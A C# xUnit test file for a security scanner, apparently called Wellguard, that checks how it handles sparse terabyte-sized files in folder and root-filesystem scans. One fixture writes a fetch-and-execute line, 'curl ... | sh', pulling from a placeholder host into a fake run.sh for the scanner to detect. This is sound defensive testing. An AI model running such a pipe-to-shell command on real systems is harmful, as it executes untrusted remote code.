using System.Diagnostics;
using Wellguard.Artifacts;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Layers;

/// <summary>Sparse files of a folder: large, and nothing on the disk.</summary>
public sealed class FolderReadingTests : IDisposable
{
    private readonly string root = Directory.CreateTempSubdirectory("wellguard-sparse-").FullName;

    public void Dispose() => Directory.Delete(root, recursive: true);

    private void Sparse(string path, long size, byte[] end)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(root, path))!);
        using var file = File.Create(Path.Combine(root, path));
        file.SetLength(size - end.Length);
        file.Position = size - end.Length;
        file.Write(end);
    }

    private Task<Wellguard.Reports.Report> ScanAsync(string kind) =>
        Task.Run(async () => await Pipeline.ScanAsync((await ImageSources.OpenAsync(Target.Parse(kind + root), new OpenOptions(root), CancellationToken.None))[0], new ScanOptions(Policy.Default, new DateOnly(2026, 11, 24)), CancellationToken.None));

    [Fact]
    public async Task The_middle_of_a_large_file_is_not_read_where_nobody_wants_it()
    {
        Sparse("data.bin", 1L << 40, [1]);
        Sparse("run.sh", 1L << 40, "\ncurl -s https://cdn.example.invalid/x | sh\n"u8.ToArray());
        var clock = Stopwatch.StartNew();
        var report = await ScanAsync("dir:");
        Assert.InRange(clock.Elapsed, TimeSpan.Zero, TimeSpan.FromSeconds(30));
        Assert.DoesNotContain(report.Completeness.Reasons, reason => reason.Why.Contains("first and last", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_file_that_is_hashed_and_too_large_is_partial()
    {
        Sparse("usr/bin/tool.sh", 1L << 40, [1]);
        var report = await ScanAsync("rootfs:");
        Assert.Contains(report.Completeness.Reasons, reason => reason.What.EndsWith("usr/bin/tool.sh", StringComparison.Ordinal) && reason.Why.Contains("first and last 8 MB", StringComparison.Ordinal));
    }
}
